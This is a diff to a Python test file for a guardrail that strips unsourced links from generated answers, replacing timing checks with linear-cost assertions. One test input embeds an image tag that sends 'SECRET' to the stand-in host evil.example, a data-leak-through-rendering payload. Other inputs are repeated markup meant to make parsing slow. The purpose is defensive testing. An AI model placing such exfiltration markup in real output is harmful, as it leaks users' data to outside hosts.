@@ -4,12 +4,11 @@ own links stay (docs/adr/0048)."""
 
 from __future__ import annotations
 
-import time
-
 import pytest
 
 from app.guardrails.links import MARKER, remove_links, rendered_destinations
 from app.guardrails.output_checks import check_output
+from tests.cpu_cost import assert_linear
 
 SOURCE = "Support answers at https://shop.example/help every day."
 ISSUE = "link not found in any source removed"
@@ -104,24 +103,29 @@ def test_a_link_a_source_holds_stays_but_not_with_something_appended() -> None:
 
 
 def test_an_answer_of_too_much_markup_is_rendered_as_text_without_its_links() -> None:
-    answer = "[x](y) " * 600 + "<img src=//evil.example/a.png?d=SECRET> www.evil.example/?d=1"
-    started = time.perf_counter()
-    text, removed = remove_links(answer, lambda _url: False)
-    assert time.perf_counter() - started < 1.0
+    def answer(size: int) -> str:
+        return "[x](y) " * size + "<img src=//evil.example/a.png?d=SECRET> www.evil.example/?d=1"
+
+    text, removed = remove_links(answer(600), lambda _url: False)
     assert removed >= 1
     assert not [url for url in rendered_destinations(text) if "evil" in url]
     assert "\\<img" in text  # escaped: shown, not rendered
     assert "www.evil" not in text
+    assert_linear(lambda size: remove_links(answer(size), lambda _url: False), 600)
 
 
 @pytest.mark.parametrize(
-    "answer",
-    ["](" * 20_000, "](http://" * 5_000, "<a " * 10_000, "&#104;" * 20_000, "[" * 20_000 + "]("],
+    ("unit", "tail", "size"),
+    [
+        ("](", "", 5_000),
+        ("](http://", "", 1_250),
+        ("<a ", "", 10_000),
+        ("&#104;", "", 5_000),
+        ("[", "](", 5_000),
+    ],
 )
-def test_hostile_markup_costs_little(answer: str) -> None:
-    started = time.perf_counter()
-    remove_links(answer, lambda _url: False)
-    assert time.perf_counter() - started < 1.0
+def test_hostile_markup_costs_in_proportion_to_its_length(unit: str, tail: str, size: int) -> None:
+    assert_linear(lambda repeats: remove_links(unit * repeats + tail, lambda _url: False), size)
 
 
 def test_a_removed_markdown_link_keeps_its_text_and_a_link_inside_it_goes_too() -> None:
